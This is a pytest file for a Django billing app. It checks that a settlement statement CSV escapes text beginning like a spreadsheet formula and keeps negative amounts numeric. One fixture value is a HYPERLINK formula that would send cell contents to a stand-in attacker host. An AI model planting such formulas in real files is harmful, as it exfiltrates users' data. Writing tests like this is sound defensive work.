"""statement.csv opened in a spreadsheet: text that looks like a formula stays text, amounts stay
numbers (docs/security.md, formula injection)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from rest_framework.test import APIClient

from billing.api import csv_text
from licensing.catalog import catalog_import
from licensing.models import Host
from tests.billing.conftest import minimax_catalog, post_usage, record, run_billing, settlement_of

pytestmark = pytest.mark.django_db

FORMULA_LABEL = '=HYPERLINK("https://evil.example/?"&A1,"ok")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("fw-2026-06", "fw-2026-06"),
        ("12% of net revenue", "12% of net revenue"),
        ("", ""),
    ],
)
def test_it_escapes_only_text_that_starts_like_a_formula(text: str, cell: str) -> None:
    assert csv_text(text) == cell


def test_it_writes_a_formula_label_as_text_and_a_negative_amount_as_a_number(
    db: None, client_for: Callable[..., APIClient]
) -> None:
    # given: the host's agreement is labelled like a formula and capped at 100.00 a month, and
    # 12% of 1,000.00 = 120.00 is billed: a cap credit of -20.00
    catalog = minimax_catalog()
    catalog["agreements"][0]["version"] = FORMULA_LABEL
    catalog["agreements"][0]["cap_per_month"] = "100.00"
    catalog_import(catalog)
    host = Host.objects.get(slug="fireworks")
    post_usage(client_for(host=host), [record("c-1", revenue="1000.00")])
    run_billing("2026-10")
    settlement = settlement_of(licensor="minimax", host="fireworks", period="2026-10")

    # when
    response = client_for(licensor=settlement.licensor).get(
        f"/api/v1/settlements/{settlement.pk}/statement.csv"
    )

    # then: the label is quoted out of formula position; the amounts are plain numbers
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["kind"], r["license_version"], r["amount"]) for r in rows] == [
        ("usage", "'" + FORMULA_LABEL, "120.00"),
        ("cap_credit", "'" + FORMULA_LABEL, "-20.00"),
    ]
    assert [r["revenue"] for r in rows] == ["1000.00", "0.00"]
